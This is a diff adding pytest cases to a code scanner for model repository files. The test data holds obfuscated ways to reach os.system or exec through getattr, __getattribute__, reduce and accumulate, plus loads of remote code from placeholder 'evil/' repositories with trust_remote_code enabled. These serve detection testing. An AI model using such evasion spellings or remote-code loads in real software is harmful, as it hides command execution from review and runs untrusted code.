@@ -280,3 +280,128 @@ def test_real_transformers_modeling_files_stay_medium(tmp_path, model):
     (tmp_path / source.name).write_bytes(source.read_bytes())
     report = scan_files(tmp_path)[source.name]
     assert {f.severity.label for f in report.findings} <= {"medium", "low"}, report.findings
+
+
+# ---- getattr spelled as a bound method, and attribute paths walked by reduce/accumulate -----
+
+# spelling -> (source, rule it must raise, severity)
+WALKS = {
+    "getattribute-method-concat": ("import os\nos.__getattribute__('sys' + 'tem')('true')\n",
+                                   "AUD-CODE-016", "critical"),
+    "getattr-method-constant": ("import os\nos.__getattr__('system')('true')\n",
+                                "AUD-CODE-002", "critical"),
+    "type-getattribute": ("import os\ntype.__getattribute__(os, 'system')('true')\n",
+                          "AUD-CODE-002", "critical"),
+    "getattribute-bound-alias": ("import os\ng = os.__getattribute__\ng('sys' + 'tem')('true')\n",
+                                 "AUD-CODE-016", "critical"),
+    "module-dict-get": ("import os\nos.__dict__.get('sys' + 'tem')('true')\n",
+                        "AUD-CODE-016", "critical"),
+    "getattribute-method-argv": ("import os, sys\nos.__getattribute__(sys.argv[1])('true')\n",
+                                 "AUD-CODE-017", "high"),
+    "getattribute-object-built-leaf": (
+        "def f(o):\n    return o.__getattribute__('sys' + 'tem')('id')\n", "AUD-CODE-017", "high"),
+    "reduce-getattr-list": ("import functools, os\n"
+                            "functools.reduce(getattr, ['path', 'os', 'system'], os)('true')\n",
+                            "AUD-CODE-016", "critical"),
+    "reduce-split-alias": ("from functools import reduce\nimport os\n"
+                           "f = reduce(getattr, 'path.os.system'.split('.'), os)\nf('true')\n",
+                           "AUD-CODE-002", "critical"),
+    "reduce-getitem-vars": ("import functools, operator, builtins\n"
+                            "functools.reduce(operator.getitem, ['exec'], vars(builtins))('1')\n",
+                            "AUD-CODE-016", "critical"),
+    "reduce-lambda-getattr": ("import functools, os\n"
+                              "functools.reduce(lambda o, n: getattr(o, n), ['system'], os)"
+                              "('id')\n",
+                              "AUD-CODE-002", "critical"),
+    "accumulate-getattr": ("import itertools, os\n"
+                           "*_, f = itertools.accumulate(['path', 'os', 'system'], getattr,"
+                           " initial=os)\nf('id')\n", "AUD-CODE-016", "critical"),
+    "reduce-argv-unresolved": ("import functools, os, sys\n"
+                               "functools.reduce(getattr, sys.argv[1:], os)('id')\n",
+                               "AUD-CODE-017", "high"),
+    "reduce-parameters-unresolved": ("import functools\n"
+                                     "def f(o, p):\n"
+                                     "    return functools.reduce(getattr, p, o)('id')\n",
+                                     "AUD-CODE-017", "high"),
+    "accumulate-item-unresolved": ("import itertools, os, sys\n"
+                                   "list(itertools.accumulate(sys.argv, getattr, initial=os))[-1]"
+                                   "('id')\n", "AUD-CODE-017", "high"),
+}
+
+# code fetched from another repository at load time: (source, repository named in the finding)
+OTHER_REPO = {
+    "hub-load": ("import torch\ntorch.hub.load('evil/repo', 'm', trust_repo=True)\n",
+                 "'evil/repo'"),
+    "hub-load-imported-keywords": ("from torch.hub import load\n"
+                                   "load(repo_or_dir='evil/repo', model='m')\n", "'evil/repo'"),
+    "hub-list-getattr": ("import torch\ngetattr(torch.hub, 'li' + 'st')('evil/repo')\n", ""),
+    "auto-model-trusted": ("from transformers import AutoModel\n"
+                           "AutoModel.from_pretrained('evil/x', trust_remote_code=True)\n",
+                           "'evil/x'"),
+    "auto-config-star-dict": ("from transformers import AutoConfig\n"
+                              "AutoConfig.from_pretrained('evil/x',"
+                              " **{'trust_remote_code': True})\n",
+                              "'evil/x'"),
+    "auto-tokenizer-bound-kwargs": ("import transformers\nK = dict(trust_remote_code=1)\n"
+                                    "transformers.AutoTokenizer.from_pretrained('evil/x', **K)\n",
+                                    "'evil/x'"),
+    "pipeline-computed-flag": ("from transformers import pipeline\n"
+                               "pipeline('text-generation', model='evil/x', "
+                               "trust_remote_code=bool(1))\n", "'evil/x'"),
+    "dynamic-module": ("from transformers.dynamic_module_utils import "
+                       "get_class_from_dynamic_module as g\ng('evil/x--m.C', 'evil/x')\n", ""),
+}
+OTHER_REPO_BENIGN = """\
+from transformers import AutoModel
+
+
+def load(name, trust_remote_code=False):
+    AutoModel.from_pretrained("ok/x")
+    AutoModel.from_pretrained("ok/x", trust_remote_code=False)
+    return AutoModel.from_pretrained(name, trust_remote_code=trust_remote_code)
+"""
+WALK_BENIGN = """\
+import functools
+import torch
+
+
+class A(torch.nn.Module):
+    def __getattr__(self, name):
+        return super().__getattr__(name)
+
+    def sub(self, name):
+        return functools.reduce(getattr, name.split("."), self)
+
+    def act(self, x):
+        return functools.reduce(getattr, ["nn", "functional", "gelu"], torch)(x)
+"""
+
+
+@pytest.fixture(scope="module")
+def walk_reports(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("walks")
+    cases = {**{k: v[0] for k, v in WALKS.items()}, **{k: v[0] for k, v in OTHER_REPO.items()},
+             "benign-walk": WALK_BENIGN, "benign-other-repo": OTHER_REPO_BENIGN}
+    for case, source in cases.items():
+        (folder / f"modeling_{case.replace('-', '_')}.py").write_text(source)
+    return {case: scan_files(folder)[f"modeling_{case.replace('-', '_')}.py"] for case in cases}
+
+
+@pytest.mark.parametrize("case", sorted(WALKS))
+def test_getattr_methods_and_reduce_walks_are_resolved(walk_reports, case):
+    _, rule, severity = WALKS[case]
+    found = {f.rule: f.severity.label for f in walk_reports[case].findings}
+    assert found.get(rule) == severity, walk_reports[case].findings
+
+
+@pytest.mark.parametrize("case", sorted(OTHER_REPO))
+def test_code_fetched_from_another_repository_is_high_and_named(walk_reports, case):
+    _, repo = OTHER_REPO[case]
+    hits = [f for f in walk_reports[case].findings if f.rule == "AUD-CODE-018"]
+    assert hits and all(f.severity.label == "high" for f in hits), walk_reports[case].findings
+    assert any(repo in f.detail for f in hits), hits
+
+
+@pytest.mark.parametrize("case", ["benign-walk", "benign-other-repo"])
+def test_ordinary_reduce_and_from_pretrained_stay_medium(walk_reports, case):
+    assert rule_ids(walk_reports[case]) == ["AUD-CODE-001"], walk_reports[case].findings
